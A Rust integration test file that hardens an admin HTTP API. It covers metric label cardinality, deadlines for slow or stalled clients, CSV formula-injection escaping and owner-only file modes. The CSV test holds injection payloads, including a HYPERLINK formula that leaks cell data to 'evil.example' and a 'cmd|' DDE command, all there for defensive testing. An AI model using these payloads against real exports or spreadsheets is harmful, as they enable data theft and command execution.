//! Hardening of the admin API over real HTTP on loopback (issue 14): metric labels bounded
//! whatever method or path a client sends, deadlines for slow clients (raw TCP clients that
//! trickle a header or stall a body), spreadsheet formula injection neutralised in the usage
//! CSV export (real ClickHouse), and owner-only files (SQLite database, its WAL files, the
//! mail folder and its `.eml` files).

mod common;
mod usage_data;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

use aihub_store::testing::Backend;
use common::TestApi;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use usage_data::{day_of, me, new_key, records, DAY};

#[tokio::test]
async fn metric_labels_are_bounded() {
    let api = TestApi::start(Backend::Sqlite).await;
    for i in 0..40 {
        let method = reqwest::Method::from_bytes(format!("WEIRDMETHOD{i}").as_bytes()).unwrap();
        let resp = api
            .http
            .request(method.clone(), api.url("/healthz"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 405);
        let resp = api
            .http
            .request(method, api.url(&format!("/no/such/path/{i}")))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 404);
        api.http
            .get(api.url(&format!("/developer/keys/key_{i}")))
            .send()
            .await
            .unwrap();
    }
    let text = api
        .http
        .get(api.url("/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!text.contains("WEIRDMETHOD"), "{text}");
    assert!(!text.contains("/no/such/path"), "{text}");
    assert!(!text.contains("key_1"), "{text}");
    let series: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("aihub_admin_requests_total{"))
        .collect();
    let has = |route: &str, method: &str, status: &str| {
        let labels = format!("method=\"{method}\",route=\"{route}\",status=\"{status}\"");
        series.iter().any(|l| l.contains(&labels))
    };
    assert!(has("/healthz", "other", "405"), "{series:#?}");
    assert!(has("unmatched", "other", "404"), "{series:#?}");
    assert!(has("/developer/keys/{id}", "GET", "401"), "{series:#?}");
    // 40 made-up methods, 40 paths, 40 key ids: a handful of series, not 120.
    assert!(series.len() <= 5, "{series:#?}");
}

/// Reads until the server closes the connection (or `limit` passes); returns what was read
/// and whether the connection was closed.
async fn read_until_closed(stream: &mut TcpStream, limit: Duration) -> (String, bool) {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = tokio::time::Instant::now() + limit;
    loop {
        match tokio::time::timeout_at(deadline, stream.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (String::from_utf8_lossy(&got).into_owned(), true),
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => return (String::from_utf8_lossy(&got).into_owned(), false),
        }
    }
}

/// Sends `bytes` one at a time, `every` apart, ignoring failures (the server may hang up).
fn trickle(mut writer: tokio::net::tcp::OwnedWriteHalf, bytes: Vec<u8>, every: Duration) {
    tokio::spawn(async move {
        for b in bytes {
            if writer.write_all(&[b]).await.is_err() {
                return;
            }
            tokio::time::sleep(every).await;
        }
        // Then hold the connection open without sending more.
        tokio::time::sleep(Duration::from_secs(30)).await;
        drop(writer);
    });
}

async fn connect(api: &TestApi) -> TcpStream {
    TcpStream::connect(api.base.trim_start_matches("http://"))
        .await
        .unwrap()
}

/// A client that asks for responses and stops reading them is disconnected once writes make
/// no progress for `response_write_timeout`, instead of holding the connection forever.
#[tokio::test]
async fn clients_that_stop_reading_are_cut_off() {
    let api = TestApi::start_with(Backend::Sqlite, |c| {
        c.server.response_write_timeout = Duration::from_secs(1);
        c.server.header_read_timeout = Duration::from_secs(60);
    })
    .await;
    let one = api
        .http
        .get(api.url("/openapi.json"))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .len();
    // Far more than the socket buffers hold, pipelined on one connection, never read.
    let requests = (32 << 20) / one + 1;
    let mut stream = connect(&api).await;
    let pipelined = "GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n".repeat(requests);
    stream.write_all(pipelined.as_bytes()).await.unwrap();
    tokio::time::sleep(Duration::from_secs(3)).await;
    // Reading now drains what the buffers held, then finds the connection closed: the server
    // gave up on the rest.
    let (got, closed) = read_until_closed(&mut stream, Duration::from_secs(20)).await;
    assert!(closed, "still open");
    assert!(
        got.len() < requests * one,
        "every response was written: {} bytes",
        got.len()
    );
    // The listener still serves others.
    let ok = api.http.get(api.url("/healthz")).send().await.unwrap();
    assert_eq!(ok.status(), 200);
}

#[tokio::test]
async fn slow_headers_are_cut_off() {
    let api = TestApi::start_with(Backend::Sqlite, |c| {
        c.server.header_read_timeout = Duration::from_secs(1);
    })
    .await;

    // A header sent one byte every 300 ms (it would take 15 s): closed after about 1 s.
    let header = b"GET /healthz HTTP/1.1\r\nHost: x\r\nUser-Agent: slow\r\n\r\n".to_vec();
    let (mut read, write) = connect(&api).await.into_split();
    let started = Instant::now();
    trickle(write, header, Duration::from_millis(300));
    let mut buf = [0u8; 256];
    let closed = tokio::time::timeout(Duration::from_secs(5), read.read(&mut buf)).await;
    assert!(
        matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
        "still open after 5 s: {closed:?}"
    );
    let took = started.elapsed();
    assert!(
        took >= Duration::from_millis(900) && took < Duration::from_secs(4),
        "{took:?}"
    );

    // A connection that sends nothing at all is closed too.
    let mut idle = connect(&api).await;
    let (got, closed) = read_until_closed(&mut idle, Duration::from_secs(5)).await;
    assert!(closed && got.is_empty(), "idle connection: {got:?}");

    // A prompt client is served as before, on a connection kept alive between requests.
    let mut ok = connect(&api).await;
    for _ in 0..2 {
        ok.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            .await
            .unwrap();
        let mut buf = [0u8; 512];
        let n = ok.read(&mut buf).await.unwrap();
        let text = String::from_utf8_lossy(&buf[..n]);
        assert!(
            text.starts_with("HTTP/1.1 200") && text.ends_with("ok"),
            "{text}"
        );
    }
}

/// The status line, and the JSON body of a complete HTTP/1.1 response.
fn parse_response(raw: &str) -> (String, Value) {
    let (head, body) = raw.split_once("\r\n\r\n").expect("a complete response");
    let status = head.lines().next().unwrap().to_owned();
    (status, serde_json::from_str(body).unwrap_or(Value::Null))
}

#[tokio::test]
async fn stalled_bodies_get_408() {
    let api = TestApi::start_with(Backend::Sqlite, |c| {
        c.server.body_read_timeout = Duration::from_secs(1);
        c.server.max_body_bytes = 4096;
    })
    .await;
    let assert_timeout = |raw: &str, took: Duration| {
        let (status, body) = parse_response(raw);
        assert!(status.starts_with("HTTP/1.1 408"), "{raw}");
        assert!(
            raw.to_ascii_lowercase().contains("connection: close"),
            "{raw}"
        );
        let (kind, code) = common::error_of(&body);
        assert_eq!(
            (kind.as_str(), code.as_str()),
            ("invalid_request_error", "request_timeout")
        );
        assert!(
            took >= Duration::from_millis(900) && took < Duration::from_secs(4),
            "{took:?}"
        );
    };

    // A declared length, part of the body, then silence.
    let mut s = connect(&api).await;
    let started = Instant::now();
    s.write_all(
        b"POST /developer/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
          Content-Length: 100\r\n\r\n{\"email\":",
    )
    .await
    .unwrap();
    let (raw, closed) = read_until_closed(&mut s, Duration::from_secs(5)).await;
    assert!(closed, "connection left open: {raw}");
    assert_timeout(&raw, started.elapsed());

    // A chunked body that keeps coming, one byte every 200 ms, and never ends: the deadline
    // is for the whole body, not between reads.
    let (mut read, mut write) = connect(&api).await.into_split();
    let started = Instant::now();
    write
        .write_all(
            b"POST /developer/register HTTP/1.1\r\nHost: x\r\n\
              Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
        )
        .await
        .unwrap();
    let chunks: Vec<u8> = std::iter::repeat_n(b"1\r\n \r\n".to_vec(), 100)
        .flatten()
        .collect();
    trickle(write, chunks, Duration::from_millis(30));
    let mut raw = Vec::new();
    let read_all = tokio::time::timeout(Duration::from_secs(5), read.read_to_end(&mut raw)).await;
    assert!(read_all.is_ok(), "connection left open");
    assert_timeout(&String::from_utf8_lossy(&raw), started.elapsed());

    // A declared length over the limit is refused before reading it.
    let mut s = connect(&api).await;
    s.write_all(
        b"POST /developer/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
          Content-Length: 5000\r\n\r\n",
    )
    .await
    .unwrap();
    let (raw, _) = read_until_closed(&mut s, Duration::from_secs(3)).await;
    let (status, body) = parse_response(&raw);
    assert!(status.starts_with("HTTP/1.1 413"), "{raw}");
    assert_eq!(common::error_of(&body).1, "request_too_large");

    // Prompt bodies are served as before.
    let (st, b) = api
        .call(
            "POST",
            "/developer/login",
            None,
            Some(json!({"email": "nobody@example.com", "password": "wrong password"})),
        )
        .await;
    assert_eq!(
        (st, common::error_of(&b).1.as_str()),
        (401, "invalid_credentials")
    );
}

/// A minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF records).
fn csv_records(body: &str) -> Vec<Vec<String>> {
    let mut records = vec![];
    let (mut record, mut field, mut quoted, mut chars) =
        (vec![], String::new(), false, body.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => record.push(std::mem::take(&mut field)),
            ('\r', false) if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (c, _) => field.push(c),
        }
    }
    records
}

#[tokio::test]
async fn csv_export_neutralises_formulas() {
    let api = TestApi::start_with_usage(Backend::Sqlite, |_| {}).await;
    let ada = api.signed_up("ada@example.com").await;
    let ada_id = me(&api, &ada).await;
    let keys = vec![new_key(&api, &ada, "a").await];
    let start = aihub_plans::Period::parse("2026-03").unwrap().start_ms();
    let mut rows = records(&ada_id, &keys, 7, start, start + DAY, 11);
    rows.sort_by_key(|r| r.ts_ms);
    let agents = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "curl/8.5.0",
    ];
    for (r, agent) in rows.iter_mut().zip(agents) {
        r.user_agent = agent.into();
    }
    rows[0].model = "=1+1".into();
    rows[1].cost_nanos = -500_000_000; // a refund-like negative amount stays a number
    api.ch().insert(&rows).await;

    let from = day_of(start);
    let resp = api
        .http
        .get(api.url(&format!("/developer/usage/export?from={from}&to={from}")))
        .bearer_auth(&ada)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let body = resp.text().await.unwrap();
    let table = csv_records(&body);
    let col = |name: &str| table[0].iter().position(|h| h == name).unwrap();
    let (ua, model, cost) = (col("user_agent"), col("model"), col("cost_usd"));
    assert_eq!(table.len(), rows.len() + 1, "{body}");
    for (r, cells) in rows.iter().zip(&table[1..]) {
        let expected = if r.user_agent.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{}", r.user_agent)
        } else {
            r.user_agent.clone()
        };
        assert_eq!(cells[ua], expected);
    }
    assert!(table[1][ua].starts_with("'=HYPERLINK("), "{:?}", table[1]);
    assert_eq!(table[1][model], "'=1+1");
    assert_eq!(table[2][cost], "-0.50");
    assert_eq!(table[7][ua], "curl/8.5.0");
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .permissions()
        .mode()
        & 0o777
}

#[tokio::test]
async fn files_are_owner_only() {
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("data/db/aihub.db");
    let mail = tmp.path().join("data/mail");
    let (db_url, mail_dir) = (format!("sqlite://{}", db.display()), mail.clone());
    let api = TestApi::start_with(Backend::Sqlite, move |c| {
        c.database.url = db_url;
        c.email.transport = aihub_admin::config::EmailTransport::File { dir: mail_dir };
    })
    .await;
    let (s, _) = api
        .call(
            "POST",
            "/developer/register",
            None,
            Some(json!({
                "email": "ada@example.com",
                "password": common::PASSWORD,
                "full_name": "Ada",
            })),
        )
        .await;
    assert_eq!(s, 202);
    // The verification mail, once written.
    let mut eml = None;
    for _ in 0..100 {
        eml = std::fs::read_dir(&mail)
            .unwrap()
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == "eml"))
            .find(|p| std::fs::read_to_string(p).is_ok_and(|m| m.contains("To: ada@example.com")));
        if eml.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let eml = eml.expect("a verification mail");

    // The umask here is the usual 0022: without care these would be 0644 and 0755.
    let plain = tmp.path().join("plain");
    std::fs::write(&plain, "x").unwrap();
    println!("umask check: a plain file is {:o}", mode(&plain));
    let wal = db.with_extension("db-wal");
    let shm = db.with_extension("db-shm");
    for f in [&db, &wal, &shm, &eml] {
        assert_eq!(mode(f), 0o600, "{}", f.display());
    }
    for d in [tmp.path().join("data"), tmp.path().join("data/db"), mail] {
        assert_eq!(mode(&d), 0o700, "{}", d.display());
    }
}
